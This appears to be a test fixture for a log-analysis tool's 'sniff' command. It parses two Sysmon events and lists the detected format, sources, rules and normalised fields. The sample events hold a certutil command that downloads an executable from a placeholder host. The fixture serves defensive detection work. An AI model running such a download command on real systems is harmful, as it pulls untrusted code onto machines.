# sniff tells the format, the records, the time, the log sources and every name with an example
--- command sniff
--- args -f table
--- input win.json
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","UtcTime":"2026-11-24 02:21:52.123","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://files.example/a.exe a.exe"}
{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws5.corp.example","UtcTime":"2026-11-24 02:21:53.000","DestinationIp":"192.0.2.7","DestinationPort":"80"}
--- output text
win.json
  format   json, 90 % sure: JSON objects, one a line
  records  2
  time     2026-11-24T02:21:52.123Z to 2026-11-24T02:21:53.000Z
  sources  windows/sysmon/1 1, windows/sysmon/3 1
  rules    network_connection 1, process_creation 1
  names    action               create
           category             process_creation
           channel              Microsoft-Windows-Sysmon/Operational
           command_line         certutil -urlcache -f http://files.example/a.exe a.exe
           command_plain        certutil -urlcache -f http://files.example/a.exe a.exe
           command_url          http://files.example/a.exe
           command_url_host     files.example
           dst_ip               192.0.2.7
           dst_ip_internal      false
           dst_port             80
           event_id             1
           host                 ws5.corp.example
           process_name         certutil.exe
           process_path         C:\Windows\System32\certutil.exe
           transfer_direction   download
           transfer_file        a.exe
           transfer_host        files.example
           transfer_url         http://files.example/a.exe
  fields   Channel, CommandLine, Computer, DestinationIp, DestinationPort, EventID, Image, UtcTime
